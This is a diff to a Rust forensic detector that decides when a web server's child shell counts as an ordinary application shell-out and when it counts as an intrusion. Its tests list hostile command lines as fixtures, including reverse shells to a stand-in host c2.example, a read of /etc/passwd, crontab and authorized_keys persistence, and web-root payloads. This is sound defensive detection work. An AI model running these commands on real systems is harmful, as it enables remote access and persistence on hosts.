@@ -375,8 +375,9 @@ fn system_name_elsewhere(
 /// (archive and restore commands run shells by design). One step up when the child is a downloader, runs
 /// from an odd place, or its `-c` command asks who and where it runs (two or more `recon_command` /
 /// `recon_file` items: `id; uname -a; cat /etc/passwd`, an intruder's first lines through a web shell or a
-/// command injection, with no download yet). Low when its `-c` command runs only ordinary programs with no
-/// download, socket, decoder, recon or temp/hidden path: an application shelling out (`convert`, `git`).
+/// command injection, with no download yet). Low when it is an application shelling out
+/// ([`application_shell_out`]: a packaged shell whose `-c` command runs only ordinary, packaged programs,
+/// none network-capable or host-changing, reaching no URL or `host:port`: `convert`, `git`).
 /// A CI executor's job step (`support::ci_job_step`: Jenkins's `sh -xe /tmp/jenkins123.sh`, a runner's job
 /// script) is how CI works and is not reported; an inline `sh -c` or a downloader straight under the
 /// executor (its script console exploited) still is.
@@ -409,21 +410,10 @@ fn service_child(ctx: &Context, p: &ProcessRecord, names: &Names) -> Option<Find
         .map(|(_, s)| recon_in(ctx, s))
         .unwrap_or_default();
     // A shell that runs only ordinary programs (ImageMagick's `convert`, `git`, `sendmail`): how
-    // applications shell out. A shell with no command (an interactive or reverse shell) is not one, nor
-    // one that hands its work to another shell, an interpreter or a network tool (`python -c`, `nc`),
-    // whose own text this reading does not see into.
-    let shell_out = command.as_ref().is_some_and(|(_, s)| {
-        recon.is_empty()
-            && !s.download
-            && s.is_quiet(ctx.iocs.paths())
-            && !s.commands.is_empty()
-            && !s.commands.iter().any(|c| {
-                crate::parse::shell_line::INTERPRETERS.contains(&c.as_slice())
-                    || ctx
-                        .iocs
-                        .contains(Kind::ShellOrDownloader, &support::lower(c))
-            })
-    });
+    // applications shell out ([`application_shell_out`]).
+    let shell_out = command
+        .as_ref()
+        .is_some_and(|(text, s)| recon.is_empty() && application_shell_out(ctx, p, text, s));
     if downloader || recon.len() >= 2 || support::strongly_odd(ctx, p) {
         severity = up(severity);
     } else if shell_out {
@@ -447,15 +437,145 @@ fn service_child(ctx: &Context, p: &ProcessRecord, names: &Names) -> Option<Find
         ));
     } else if shell_out && severity == Severity::Low {
         f = f.evidence(
-            "its command runs only ordinary programs from the search path, with no download, socket, decoder, recon or temp/hidden path: how applications shell out",
+            "a packaged shell whose command runs only ordinary, installed programs (none network-capable or host-changing, none from a web root, a home or a temp place), with no URL, host:port, download, socket, decoder, recon or write to a persistence or access file: how applications shell out",
         );
     }
     Some(f)
 }
 
-/// The command text a shell runs (`sh -c TEXT`, `bash -lc TEXT`), when the process is a shell
-/// ([`crate::parse::shell_line::SHELLS`]: not `python -c`, `nc -c`, whose text is no shell line) and was
-/// given one.
+/// Whether a network service's shell is an application shelling out (ImageMagick's `convert`, `git`,
+/// `sendmail`), which is all that lowers `MT-RUN-036`: the shell is one a package vouches for, judged by
+/// its executable and not by the name it was started under ([`packaged_shell`]); its command runs at
+/// least one program and every one is ordinary ([`ordinary_program`]), every path it runs an installed
+/// program ([`installed_program`]: not the web root's, a home's or a temp one); no word reaches a URL or a
+/// `host:port`; no path it names is a persistence location or an access file (`echo KEY >>
+/// ~/.ssh/authorized_keys`, a crontab spool); and the line is otherwise quiet (no download, socket,
+/// decoder, IP, temp or hidden path, history or module tampering: [`ShellLine::is_quiet`]). A shell with
+/// no command (an interactive or reverse shell) is no shell-out, nor one that hands its work to another
+/// shell, an interpreter or a network tool, whose own text this reading does not see into.
+///
+/// [`ShellLine::is_quiet`]: crate::parse::shell_line::ShellLine::is_quiet
+fn application_shell_out(
+    ctx: &Context,
+    p: &ProcessRecord,
+    text: &[u8],
+    s: &crate::parse::shell_line::ShellLine,
+) -> bool {
+    let reaches = crate::parse::shell_line::words_in_order(text)
+        .iter()
+        .filter(|(_, redirect)| !redirect)
+        .any(|(w, _)| {
+            support::parse_host_port(&String::from_utf8_lossy(w))
+                .is_some_and(|(_, port)| port.is_some())
+        });
+    let writes_access = s.paths.iter().any(|path| {
+        minetrace_schemas::locations::persistence_location(path).is_some()
+            || ctx.iocs.matches_path(Kind::AccessFile, path)
+    });
+    packaged_shell(ctx, p)
+        && !s.download
+        && s.urls.is_empty()
+        && !reaches
+        && !writes_access
+        && s.is_quiet(ctx.iocs.paths())
+        && !s.commands.is_empty()
+        && s.commands.iter().all(|c| ordinary_program(ctx, p, c))
+        && s.ran.iter().all(|r| installed_program(ctx, &r.path))
+}
+
+/// Whether a process's executable is a shell a package vouches for ([`crate::parse::shell_line::SHELLS`]
+/// by the executable's own name, in a package directory, its package check a match): `argv[0]` is
+/// whatever the starter chose, so a dropped binary started as `sh -c "convert ..."` is no shell.
+fn packaged_shell(ctx: &Context, p: &ProcessRecord) -> bool {
+    let Some(exe) = p.exe.as_ref().filter(|e| !e.deleted && !e.memfd) else {
+        return false;
+    };
+    let path = exe.path.as_bytes();
+    crate::parse::shell_line::SHELLS.contains(&support::basename(path))
+        && support::under(ctx, PathClass::Package, path)
+        && ctx.model.package_check(path).is_some_and(|c| {
+            c.verdict == minetrace_schemas::records::package::PackageVerdict::Match
+        })
+}
+
+/// Whether a program path is one the service's account could not have planted: in a system directory
+/// (path class `system`: the package directories, `/usr/local`, `/opt`), not hidden, temp, in a web
+/// root or a home; in a package directory, a file its package check (when the collector made one)
+/// vouches for; elsewhere (an admin's own build in `/usr/local/bin`, as official container images
+/// install ImageMagick), a file the snapshot records owned by root and writable by no one else. An
+/// upload directory's `php-cgi`, a home's `bin/`, a file of the service's own account are where an
+/// intruder's payload sits; a packaged file whose bytes differ is a trojan.
+fn installed_program(ctx: &Context, path: &[u8]) -> bool {
+    use minetrace_schemas::records::package::PackageVerdict;
+    if !support::under(ctx, PathClass::System, path)
+        || support::under(ctx, PathClass::KitProne, path)
+        || support::under(ctx, PathClass::WebRoot, path)
+        || support::in_home(ctx, path)
+    {
+        return false;
+    }
+    let packaged_dir = support::under(ctx, PathClass::Package, path);
+    match ctx.model.package_check(path).map(|c| c.verdict) {
+        Some(PackageVerdict::Match) => return true,
+        Some(PackageVerdict::Mismatch) => return false,
+        Some(PackageVerdict::NotOwned) if packaged_dir => return false,
+        _ => {}
+    }
+    match ctx.model.file_aliased(path) {
+        Some(f) => f.uid == 0 && f.mode & 0o022 == 0,
+        // The bundle records package directories by need only; what it never saw there is the
+        // package's.
+        None => packaged_dir,
+    }
+}
+
+/// Whether a command a service's shell runs (by its basename) is an ordinary program: no shell,
+/// interpreter or downloader, not network-capable (`network_tool`, `proxy_tool`, `ssh_client`,
+/// `irc_client`, `scan_tool`, `brute_tool`) nor host-changing (`host_changing_tool`), and — run by name —
+/// an installed program ([`installed_program`]) where it is first found on the process's search path,
+/// as far as the snapshot records the directories of its `PATH` (a program of that name in a web root
+/// ahead of `/usr/bin` is what runs).
+fn ordinary_program(ctx: &Context, p: &ProcessRecord, command: &[u8]) -> bool {
+    let name = String::from_utf8_lossy(command);
+    let lower = name.to_ascii_lowercase();
+    let special = crate::parse::shell_line::is_interpreter(command)
+        || ctx.iocs.contains(Kind::Interpreter, &lower)
+        || ctx.iocs.contains(Kind::ShellOrDownloader, &lower)
+        || [
+            Kind::NetworkTool,
+            Kind::HostChangingTool,
+            Kind::ProxyTool,
+            Kind::SshClient,
+            Kind::IrcClient,
+            Kind::ScanTool,
+            Kind::BruteTool,
+        ]
+        .into_iter()
+        .any(|k| ctx.iocs.contains(k, &name));
+    if special {
+        return false;
+    }
+    let Some(path) = support::env_value(p, b"PATH") else {
+        return true;
+    };
+    for dir in path
+        .split(|b| *b == b':')
+        .filter(|d| d.starts_with(b"/"))
+        .take(64)
+    {
+        let dir = dir.strip_suffix(b"/").unwrap_or(dir);
+        let candidate = [dir, b"/", command].concat();
+        if ctx.model.file(&candidate).is_some() {
+            return installed_program(ctx, &candidate);
+        }
+    }
+    true
+}
+
+/// The command text a shell runs (`sh -c TEXT`, `bash -lc TEXT`), when the process goes by a shell's
+/// name ([`crate::parse::shell_line::SHELLS`]: not `python -c`, `nc -c`, whose text is no shell line) and
+/// was given one. Read for what it asks (recon); only a packaged shell's text can lower the finding
+/// ([`packaged_shell`]).
 fn shell_command(p: &ProcessRecord) -> Option<&[u8]> {
     let names = Names::of(p);
     if !names
@@ -712,8 +832,23 @@ mod tests {
         assert!(sev(32) >= Some(Severity::Medium));
     }
 
-    /// MT-RUN-036's severity for a child of php-fpm with this argv (the child's exe is its argv[0]).
+    /// MT-RUN-036's severity for a child of php-fpm with this argv (the child's exe is its argv[0]). The
+    /// host's shells (`/bin/sh`, `/usr/bin/dash`) are packaged: their package checks match.
     fn judged(child: &[&[u8]]) -> Option<Severity> {
+        judged_with(child[0], child, &[], vec![])
+    }
+
+    /// [`judged`] for a child running `exe`, with `env` (`NAME=VALUE`) and these files in the snapshot.
+    fn judged_with(
+        exe: &[u8],
+        child: &[&[u8]],
+        env: &[&[u8]],
+        files: Vec<(
+            minetrace_schemas::records::file::FileRecord,
+            Option<Vec<u8>>,
+        )>,
+    ) -> Option<Severity> {
+        use minetrace_schemas::records::package::PackageVerdict;
         let iocs = Indicators::builtin();
         let fpm = fixture::process(
             10,
@@ -722,8 +857,24 @@ mod tests {
             b"/usr/local/sbin/php-fpm",
             &[b"php-fpm: pool www"],
         );
-        let kid = fixture::process(11, 10, 33, child[0], child);
-        let model = fixture::model_with_processes(vec![], vec![], vec![fpm, kid]);
+        let mut kid = fixture::process(11, 10, 33, exe, child);
+        for e in env {
+            let (name, value) = e.split_at(e.iter().position(|b| *b == b'=').unwrap_or(e.len()));
+            kid.env.push(minetrace_schemas::records::process::EnvVar {
+                name: RawBytes::from(name),
+                value: value.strip_prefix(b"=").map(RawBytes::from),
+            });
+        }
+        let checks = [&b"/bin/sh"[..], b"/usr/bin/dash", b"/usr/bin/convert"]
+            .into_iter()
+            .map(|path| {
+                let mut c = fixture::not_owned(path, "running-exe");
+                c.verdict = PackageVerdict::Match;
+                c.package = Some("dash".into());
+                c
+            })
+            .collect();
+        let model = fixture::model_with_processes(files, checks, vec![fpm, kid]);
         let ctx = Context {
             model: &model,
             iocs: &iocs,
@@ -752,5 +903,89 @@ mod tests {
         assert_eq!(judged(bare), Some(Severity::Medium));
         assert_eq!(judged(download), Some(Severity::Medium));
         assert_eq!(judged(python), Some(Severity::Medium));
+        // Look-alikes that stay an application's shell-out: benign-php-shellout's line, a program named by
+        // its package path, mail handed to sendmail from a file of the application.
+        for text in [
+            &b"convert /var/www/shop/uploads/p/4711.jpg -resize 800x800 -strip /var/www/shop/uploads/p/4711-800.jpg; git -C /var/www/shop/theme rev-parse --short HEAD; sleep 900"[..],
+            b"/usr/bin/convert a.jpg -resize 50% b.jpg",
+            b"sendmail -t -i < /var/www/shop/var/mail/4711.eml",
+        ] {
+            assert_eq!(
+                judged(&[b"/usr/bin/dash", b"-c", text]),
+                Some(Severity::Low),
+                "{}",
+                String::from_utf8_lossy(text)
+            );
+        }
+    }
+
+    /// Review of train 2, item 5: what a web server's shell runs is an application's shell-out only when
+    /// every program is an ordinary, packaged one that neither reaches the network nor changes the host,
+    /// with no URL or `host:port`, and the shell itself is a packaged one, whatever `argv[0]` says.
+    /// Reverse shells, web-root payloads and the first moves of a miner kit stay medium.
+    #[test]
+    fn a_web_servers_shell_running_a_reverse_shell_or_a_payload_is_no_shell_out() {
+        let attacks: &[&[u8]] = &[
+            // Reverse shells through network-capable programs.
+            b"socat tcp:c2.example:443 exec:sh",
+            b"awk 'BEGIN{s=\"/inet/tcp/0/c2.example/443\";while(1){s|&getline c;print c|&s}}'",
+            b"openssl s_client -quiet -connect c2.example:443",
+            b"telnet c2.example 443",
+            // An executable under the web root, under a home, or by a relative path.
+            b"cd /var/www/html/uploads && ./php-cgi -c k.json",
+            b"/home/deploy/bin/thumb a.jpg b.jpg",
+            // A miner kit's first moves: kill rivals, unlock the loader, schedule itself.
+            b"pkill -f kdevtmpfsi; chattr -i /etc/ld.so.preload",
+            b"(crontab -l; echo '@reboot /var/tmp/.x/run') | crontab -",
+            b"echo ssh-rsa AAAAB3Nza x >> /var/www/.ssh/authorized_keys",
+            // An ordinary program aimed at the network: a URL, a host:port.
+            b"convert https://c2.example/x.svg out.png",
+            b"convert c2.example:8443 out.png",
+        ];
+        for text in attacks {
+            assert_eq!(
+                judged(&[b"/bin/sh", b"-c", text]),
+                Some(Severity::Medium),
+                "{}",
+                String::from_utf8_lossy(text)
+            );
+        }
+        let convert: &[&[u8]] = &[b"sh", b"-c", b"convert a.jpg b.jpg"];
+        // Started as `sh` but no packaged shell: a dropped binary, a shell whose bytes differ.
+        assert_eq!(
+            judged_with(b"/var/www/html/up/sh", convert, &[], vec![]),
+            Some(Severity::Medium)
+        );
+        assert_eq!(
+            judged_with(b"/usr/bin/bash", convert, &[], vec![]),
+            Some(Severity::Medium),
+            "no package check vouches for it"
+        );
+        // `convert` found first on its search path in the web root: what runs is that one.
+        let path: &[&[u8]] = &[b"PATH=/var/www/html/bin:/usr/bin:/bin"];
+        let planted = fixture::file(b"/var/www/html/bin/convert", Some(b"\x7fELF"));
+        assert_eq!(
+            judged_with(b"/bin/sh", convert, path, vec![planted]),
+            Some(Severity::Medium)
+        );
+        let packaged = fixture::file(b"/usr/bin/convert", Some(b"\x7fELF"));
+        assert_eq!(
+            judged_with(b"/bin/sh", convert, path, vec![packaged]),
+            Some(Severity::Low)
+        );
+        // An admin's own build in /usr/local/bin (root's, writable by no one else) is installed; the same
+        // path owned by the service's account is what it planted.
+        let local: &[&[u8]] = &[b"PATH=/usr/local/bin:/usr/bin:/bin"];
+        let admins = fixture::file(b"/usr/local/bin/convert", Some(b"\x7fELF"));
+        assert_eq!(
+            judged_with(b"/bin/sh", convert, local, vec![admins]),
+            Some(Severity::Low)
+        );
+        let mut planted = fixture::file(b"/usr/local/bin/convert", Some(b"\x7fELF"));
+        planted.0.uid = 33;
+        assert_eq!(
+            judged_with(b"/bin/sh", convert, local, vec![planted]),
+            Some(Severity::Medium)
+        );
     }
 }
